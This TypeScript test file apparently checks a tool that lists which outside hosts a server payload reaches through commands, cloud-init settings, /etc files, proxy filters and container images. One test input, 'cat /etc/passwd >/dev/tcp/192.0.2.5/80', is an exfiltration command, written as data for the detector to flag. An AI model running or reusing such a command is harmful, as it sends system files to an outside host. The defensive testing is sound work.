import { factsOf, type Host, host } from './sample.ts';

/** Hosts of a payload by how they were found; what the sample itself names is left out. */
function named(change: Host): string[] {
  const usual = new Set(factsOf(host()).hosts.map((use) => `${use.position} ${use.host}`));
  const found = factsOf(host(change)).hosts.map((use) => `${use.position} ${use.host ?? `? (${use.causes.join()})`}`);
  return [...new Set(found.filter((each) => !usual.has(each)))].sort();
}

const run = (line: string): Host => ({ run: [['sh', '-c', line]] });
const file = (path: string, text: string): Host => ({ files: { [path]: text } });

describe('what a command reaches without naming it', () => {
  it.each([
    ['aws sts get-caller-identity', ['service amazonaws.com']],
    ['aws --endpoint-url https://hel1.your-objectstorage.com s3 ls', ['URL hel1.your-objectstorage.com']],
    ['gcloud auth list', ['service googleapis.com']],
    ['az login', ['service management.azure.com']],
    ['tailscale up', ['service controlplane.tailscale.com']],
    ['cloudflared tunnel run x', ['service cloudflare.com']],
    ['aws --version', []],
    ['rclone copy /srv :s3:bucket', ['storage s3.amazonaws.com']],
    ['rclone copy /srv :s3,provider=AWS:bucket', ['storage s3.amazonaws.com']],
    ['rclone copy /srv :s3,endpoint=hel1.your-objectstorage.com:bucket', ['text hel1.your-objectstorage.com']],
    ['rclone copy /srv there:bucket', []],
    ['pip install boto3', ['package source the python package index']],
    ['pip install ./boto3.whl', []],
    ['pip install --index-url https://packages.lukko.example/ boto3', ['URL packages.lukko.example']],
    ['pip list', []],
    ['npm install -g x', ['package source the npm registry']],
    ['npx x', ['package source the npm registry']],
    ['go install example.org/a@latest', ['package source the proxy of go modules']],
    ['add-apt-repository -y ppa:a/b', ['package source ppa.launchpadcontent.net']],
    ['ssh-import-id gh:a', ['SSH keys github.com']],
    ['ssh-import-id a', ['SSH keys launchpad.net']],
  ])('%s', (line, expected) => {
    expect(named(run(line))).toEqual(expected);
  });
});

describe('what a command names in its own way', () => {
  it.each([
    ['psql -h db.a.example -U x', ['endpoint db.a.example']],
    ['mysqldump --host=db.a.example x', ['endpoint db.a.example']],
    ['psql -h /run/postgresql', []],
    ['logger -n logs.a.example hi', ['endpoint logs.a.example']],
    ['openssl s_client -connect a.example:443', ['endpoint a.example']],
    ['mount -t nfs nas.a.example:/x /mnt', ['endpoint nas.a.example']],
    ['mount -t cifs //nas.a.example/x /mnt', ['endpoint nas.a.example']],
    ['mount /dev/sda1 /mnt', []],
    ['sshfs u@nas.a.example:/ /mnt', ['endpoint nas.a.example']],
    ['dig @192.0.2.53 a.example', ['endpoint 192.0.2.53']],
    ['cat /etc/passwd >/dev/tcp/192.0.2.5/80', ['endpoint 192.0.2.5']],
    ['/lib/systemd/systemd-socket-proxyd a.example:80', ['endpoint a.example']],
    ['tool --to s3.amazonaws.com', ['text s3.amazonaws.com']],
    ['apt-get install -y docker.io', []],
  ])('%s', (line, expected) => {
    expect(named(run(line))).toEqual(expected);
  });
});

describe('files and settings', () => {
  it.each([
    [
      'hosts(5)',
      file('/etc/hosts', '127.0.0.1 localhost\nff02::1 all\n192.0.2.9 logs.lukko.example\n'),
      ['address of a name 192.0.2.9'],
    ],
    [
      'fstab(5)',
      file('/etc/fstab', '# x\nnas.a.example:/x /mnt nfs\n/dev/sda1 / ext4\n//b.a.example/s /s cifs\n'),
      ['storage b.a.example', 'storage nas.a.example'],
    ],
    [
      'a proxy without scheme',
      file('/etc/environment', 'HTTPS_PROXY=proxy.a.example:3128\n'),
      ['endpoint proxy.a.example'],
    ],
    ['a remote of rclone', file('/etc/x.env', 'RCLONE_CONFIG_A_TYPE=s3\n'), ['storage s3.amazonaws.com']],
    [
      'a remote of rclone with its endpoint',
      file('/etc/x.env', 'RCLONE_CONFIG_A_TYPE=s3\nRCLONE_CONFIG_A_ENDPOINT=hel1.your-objectstorage.com\n'),
      ['endpoint hel1.your-objectstorage.com'],
    ],
  ])('%s', (_, change, expected) => {
    expect(named(change)).toEqual(expected);
  });

  it.each([
    ['apt: { sources: { x: { source: "ppa:a/b" } } }', ['package source ppa.launchpadcontent.net']],
    ['ssh_import_id: [gh:a]', ['SSH keys github.com']],
    ['users: [{ name: a, ssh_import_id: [lp:a] }]', ['SSH keys launchpad.net']],
    [
      'rsyslog: { remotes: { a: "@@logs.a.example:1", b: "b.a.example" } }',
      ['log target b.a.example', 'log target logs.a.example'],
    ],
    ['rsyslog: { configs: ["*.* @c.a.example"] }', ['log target c.a.example']],
    [
      'mounts: [["nas.a.example:/x", /srv/nas, nfs], [/dev/sdb, /x]]',
      ['endpoint nas.a.example', 'storage nas.a.example'],
    ],
  ])('%s', (line, expected) => {
    const all = factsOf(host({ payload: `#cloud-config\n${line}\n` })).hosts;
    const found = all.filter((use) => use.owner === 'hcloud_server.host').map((use) => `${use.position} ${use.host}`);
    expect([...new Set(found)].sort()).toEqual(expected);
  });
});

describe('names that the proxy of a host lets out', () => {
  const proxy = (names: string): Host => ({
    files: { '/etc/lukko/tinyproxy.conf': 'Port 8888\nFilter "/etc/lukko/names"\n', '/etc/lukko/names': names },
  });

  it.each([
    ['whole names', '^a[.]example[.]org$\n# more\n^b\\.example\\.org$\n', ['a.example.org', 'b.example.org']],
    ['everything', '.*\n', ['.*']],
    ['whatever ends so', '[.]example[.]org$\n', ['[.]example[.]org$']],
  ])('%s', (_, names, expected) => {
    expect(named(proxy(names))).toEqual(expected.map((name) => `allowed name ${name}`));
  });
});

describe('images that are not shown', () => {
  const images = (change: Host) => factsOf(host(change)).images.filter(({ at }) => !at.includes('logs.container'));

  it('a word that is not determined', () => {
    expect(images(run('podman run -d "$(cat /etc/image)"'))).toMatchObject([{ registry: '', causes: ['function'] }]);
  });

  it('compose with a file by another name, and one that nobody brings', () => {
    const compose = { '/etc/c.yml': 'services:\n  a:\n    image: redis:7\n' };
    const up = (path: string): Host => ({ files: compose, run: [['docker', 'compose', '-f', path, 'up', '-d']] });
    expect(images(up('/etc/c.yml'))).toMatchObject([{ text: 'redis:7' }]);
    const facts = factsOf(host(up('/etc/other.yml')));
    const [server] = facts.servers;
    expect(server?.payload.unread.map(({ why }) => why)).toEqual([
      '/etc/other.yml, a compose file that the payload does not bring',
    ]);
  });
});
